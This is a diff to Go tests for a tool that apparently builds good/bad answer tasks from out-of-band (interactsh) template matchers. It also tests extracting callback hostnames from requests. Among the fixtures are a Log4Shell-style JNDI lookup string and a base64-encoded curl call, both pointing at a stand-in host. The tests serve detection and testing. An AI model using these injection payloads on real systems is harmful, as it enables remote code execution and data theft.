@@ -30,7 +30,6 @@ func TestMake(t *testing.T) {
 		}
 	}
 	for _, text := range []string{
-		"http:\n- path: ['{{BaseURL}}/a']\n  matchers:\n  - {type: word, part: interactsh_protocol, words: [dns]}\n",
 		"http:\n- path: ['{{BaseURL}}/a']\n  matchers:\n  - {type: dsl, dsl: ['md5(body) == \"x\"']}\n",
 		"http: 1\n",
 	} {
@@ -73,6 +72,54 @@ func FuzzMake(f *testing.F) {
 	f.Fuzz(func(t *testing.T, b []byte) {
 		if c, err := Make(b, nil); err == nil && (len(c.Good) == 0 || len(c.Good) != len(c.Bad)) {
 			t.Errorf("%d good and %d bad answers", len(c.Good), len(c.Bad))
+		}
+	})
+}
+
+// TestCall holds that a target which must use the name does, and that the changed one does not.
+func TestCall(t *testing.T) {
+	t.Parallel()
+	for matchers, want := range map[string]string{
+		"{type: word, part: interactsh_protocol, words: [dns]}":                                                                           "dns ",
+		"{type: dsl, dsl: ['contains(interactsh_protocol, \"dns\") && contains(interactsh_request, \"srv\")']}":                           "dns srv",
+		"{type: word, part: interactsh_protocol, words: [http]}\n  - {type: word, part: interactsh_request, words: ['User-Agent: curl']}": "http User-Agent: curl",
+	} {
+		c, err := Make([]byte(head+"http:\n- path: ['{{BaseURL}}/a?{{interactsh-url}}']\n  matchers-condition: and\n  matchers:\n  - "+matchers+"\n"), nil)
+		if err != nil {
+			t.Errorf("%s: %v", matchers, err)
+			continue
+		}
+		good, bad := c.Good[0].Answer.Call, c.Bad[0].Answer.Call
+		if got := good.Protocol + " " + strings.Join(good.Says, "|"); got != want || strings.Join(bad.Says, "|") == strings.Join(good.Says, "|") && bad.Protocol == good.Protocol {
+			t.Errorf("%s: %+v and %+v", matchers, good, bad)
+		}
+	}
+	at := &Collaborator{Zone: "oob.example.org"}
+	for request, want := range map[string]string{
+		"GET /?u=http://vdab.oob.example.org/x":                            "vdab.oob.example.org",
+		"GET /?u=http%253A%252F%252Fvdab.oob.example.org":                  "vdab.oob.example.org",
+		"X: ${jndi:ldap://${:-1}2.${hostName}.uri.vdab.oob.example.org/a}": "12.app.uri.vdab.oob.example.org",
+		"x=" + "Y3VybCBodHRwOi8vdmRhYi5vb2IuZXhhbXBsZS5vcmc=":              "vdab.oob.example.org",
+		"nothing.example.org":                                              "",
+	} {
+		got := at.names(request)
+		if len(got) == 0 && want == "" {
+			continue
+		}
+		if len(got) == 0 || got[len(got)-1] != want {
+			t.Errorf("%s: %q", request, got)
+		}
+	}
+}
+
+func FuzzNames(f *testing.F) {
+	f.Add("GET /?u=http%3A//vdab.oob.example.org ${:-1}${hostName}.x.oob.example.org Y3VybCBodHRwOi8vdmRhYi5vb2IuZXhhbXBsZS5vcmc=")
+	at := &Collaborator{Zone: "oob.example.org"}
+	f.Fuzz(func(t *testing.T, s string) {
+		for _, n := range at.names(s) {
+			if !strings.HasSuffix(strings.ToLower(n), ".oob.example.org") {
+				t.Errorf("%q", n)
+			}
 		}
 	})
 }
